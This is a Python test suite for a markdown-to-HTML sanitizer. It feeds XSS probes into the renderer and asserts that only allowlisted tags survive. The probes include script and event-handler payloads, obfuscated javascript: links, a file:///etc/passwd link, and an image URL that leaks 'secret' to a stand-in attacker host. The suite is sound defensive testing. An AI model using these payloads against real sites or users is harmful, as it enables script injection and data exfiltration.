"""Markdown of a model becomes HTML that can do nothing."""

import re

from hypothesis import given
from hypothesis import strategies as st

from lhkit.notebook.panel.markdown import to_html
from tests.rows import check_rows

PROBES = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/png;base64,AAAA)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](mailto:a@b.c)",
    "![secret](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/x.png",
    "<javascript:alert(1)>",
    "[]()",
    "[a](<>) [b](https://x.example) [c]( 'title')",
    "[a](https://x.example 'title\" onmouseover=\"alert(1)')",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '<a href="https://x.example" onclick="alert(1)">x</a>',
)
ALLOWED = re.compile(
    r"</?(?:p|em|strong|s|ul|ol|li|code|pre|blockquote|hr|br|h[1-6]|table|thead|tbody|tr)>"
    r"|<t[hd](?: style=\"text-align:(?:left|right|center)\")?>|</t[hd]>|<(?:br|hr) ?/?>"
    r"|<ol start=\"\d+\">|<code class=\"language-[^\"<>]*\">"
    r"|<a href=\"https?:[^\"<>]*\"(?: title=\"[^\"<>]*\")? target=\"_blank\""
    r" rel=\"noopener noreferrer nofollow\">|</a>"
)


def tags(html: str) -> list[str]:
    return [tag for tag in re.findall(r"<[^>]*>?", html) if not ALLOWED.fullmatch(tag)]


@check_rows("probe", PROBES)
def test_markdown_removes_active_html(probe: str) -> None:
    assert tags(to_html(probe)) == []


@given(st.lists(st.sampled_from((*PROBES, "a", "\n", "<", '"', "[", "](", ")", "`", "&"))))
def test_markdown_removes_mixed_active_html(parts: list[str]) -> None:
    assert tags(to_html("".join(parts))) == []


def test_markdown_renders_empty_links_as_text() -> None:
    html = to_html("[a *b*]() [c](https://x.example)")
    assert html.startswith('<p>a <em>b</em> <a href="https://x.example"')
    assert html.count("</a>") == 1


def test_markdown_is_rendered() -> None:
    html = to_html("**굵게**\n\n- 하나\n- [둘](https://example.org/a?b=c)")
    assert "<strong>굵게</strong>" in html
    assert '<a href="https://example.org/a?b=c" target="_blank" rel="noopener' in html
    assert "<li>하나</li>" in html
